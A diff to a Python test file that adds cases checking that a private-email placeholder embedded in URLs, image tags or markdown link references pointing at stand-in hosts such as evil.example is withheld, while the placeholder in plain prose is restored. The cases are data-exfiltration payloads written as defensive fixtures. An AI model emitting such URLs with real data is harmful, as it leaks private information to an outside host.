@@ -56,6 +56,16 @@ def book_with(value: str = "ann@example.com") -> Book:
         '<div style="background:url(//evil.example/[MAIL_1])">',
         "background: url(//evil.example/[MAIL_1])",
         "https://evil.example/%5BMAIL_1%5D",
+        'https://evil.example/?q="[MAIL_1]',
+        "https://evil.example/?q=>[MAIL_1]",
+        "evil.example/?q=[MAIL_1]",
+        "evil.com?q=[MAIL_1]",
+        "> [x]: //evil.example/[MAIL_1]",
+        "- [x]: /[MAIL_1]",
+        r"http:\/evil/[MAIL_1]",
+        "[x]:\n//evil.example/[MAIL_1]",
+        '<img alt="\n\n" src="//evil.example/[MAIL_1]">',
+        "<img\n\nsrc=//evil.example/[MAIL_1]>",
     ],
 )
 def test_an_injected_placeholder_in_an_address_is_withheld(text):
@@ -86,6 +96,16 @@ def test_an_injected_placeholder_in_an_address_is_withheld(text):
         "- [ ] write to [MAIL_1]",
         "x[0] (of [MAIL_1])",
         "user: [MAIL_1]",
+        '{"url":"https://a.example/","mail":"[MAIL_1]"}',
+        "and/or [MAIL_1]",
+        "a.b/c [MAIL_1]",
+        "[x]: https://a.example/\n[MAIL_1]",
+        "Is it so? [MAIL_1]",
+        "[Summary]:\n[MAIL_1] wrote",
+        "- [Owner]: [MAIL_1]",
+        "[x]:\n\n[MAIL_1]",
+        r"C:\\Users\\[MAIL_1]",
+        "e.g./[MAIL_1]",
     ],
 )
 def test_prose_next_to_an_address_is_restored(text):
